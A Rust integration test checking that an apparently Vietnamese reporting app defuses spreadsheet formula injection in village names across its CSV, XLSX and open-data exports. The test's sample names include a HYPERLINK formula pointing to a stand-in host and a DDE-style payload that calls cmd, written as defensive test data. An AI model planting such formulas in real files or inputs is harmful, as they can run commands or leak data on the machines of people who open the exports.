//! Hardening: what an attacker types into a name, a header or a lesson must not reach a spreadsheet, a
//! link, a log or a file path as something that acts.
use hocvuso::reports::period::Period;

use crate::{QT_COMMUNE_A, TestApp, both};

/// Village names an admin (or a CSV import) could give, each one a formula to a spreadsheet.
const FORMULA_NAMES: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?x\";\"Bấm\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
];

fn starts_like_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

both!(
    spreadsheet_exports_defuse_formulas_in_names,
    |app: TestApp| async move {
        let mut import = String::from("commune_code,name,division_type\n");
        for name in FORMULA_NAMES {
            import.push_str(&format!(
                "{QT_COMMUNE_A},\"{}\",thôn\n",
                name.replace('"', "\"\"")
            ));
        }
        hocvuso::units::import::import_bytes(&app.state.db, import.as_bytes(), false)
            .await
            .expect("import villages");
        let admin = app.new_browser();
        admin.as_province_admin("0900000001").await;
        let year = Period::current_year(hocvuso::db::now()).key();

        // CSV report: every formula-looking name comes back with a leading quote; numbers are bare.
        let r = admin
            .get(&format!(
                "/quan-ly/bao-cao/{QT_COMMUNE_A}/bao-cao.csv?period={year}"
            ))
            .await;
        assert_eq!(r.status(), 200);
        let bytes = r.bytes().await.expect("csv");
        let mut rd = csv::Reader::from_reader(&bytes[3..]);
        let recs: Vec<csv::StringRecord> = rd.records().map(|r| r.expect("row")).collect();
        for name in FORMULA_NAMES {
            assert!(
                recs.iter().any(|r| r[1] == format!("'{name}")),
                "{name} defused in {recs:?}"
            );
        }
        for r in &recs {
            assert!(
                r.iter().all(|c| !starts_like_formula(c)),
                "no cell reads as a formula: {r:?}"
            );
            for c in r.iter().skip(2) {
                assert!(c.parse::<i64>().is_ok(), "numbers stay numbers: {c:?}");
            }
        }

        // XLSX: the names are string cells, and the only formulas are the totals.
        let r = admin
            .get(&format!(
                "/quan-ly/bao-cao/{QT_COMMUNE_A}/bao-cao.xlsx?period={year}"
            ))
            .await;
        assert_eq!(r.status(), 200);
        let bytes = r.bytes().await.expect("xlsx");
        use calamine::{Data, Reader, Xlsx};
        let mut wb: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes.to_vec())).expect("xlsx opens");
        let sheet = wb.sheet_names()[0].clone();
        let cells = wb.worksheet_range(&sheet).expect("sheet");
        for name in FORMULA_NAMES {
            assert!(
                cells
                    .rows()
                    .any(|r| r.iter().any(|c| *c == Data::String(name.to_owned()))),
                "{name} is a string cell"
            );
        }
        let formulas = wb.worksheet_formula(&sheet).expect("formulas");
        for f in formulas.rows().flatten().filter(|f| !f.is_empty()) {
            assert!(f.starts_with("SUM(") || f == "0", "unexpected formula {f}");
        }

        // Open data: the units table defuses names too.
        let dir = std::env::temp_dir().join(format!("hv-open-{}", uuid::Uuid::new_v4().simple()));
        hocvuso::reports::opendata::export(&app.state, &dir)
            .await
            .expect("export");
        let bytes = std::fs::read(dir.join("units.csv")).expect("units.csv");
        let mut rd = csv::Reader::from_reader(&bytes[3..]);
        let recs: Vec<csv::StringRecord> = rd.records().map(|r| r.expect("row")).collect();
        for name in FORMULA_NAMES {
            assert!(
                recs.iter().any(|r| r[1] == format!("'{name}")),
                "{name} defused in units.csv"
            );
        }
        assert!(
            recs.iter()
                .flat_map(|r| r.iter())
                .all(|c| !starts_like_formula(c))
        );
        assert!(
            recs.iter().all(|r| r[3].parse::<i64>().is_ok()),
            "level is a number"
        );
        let _ = std::fs::remove_dir_all(&dir);
    }
);
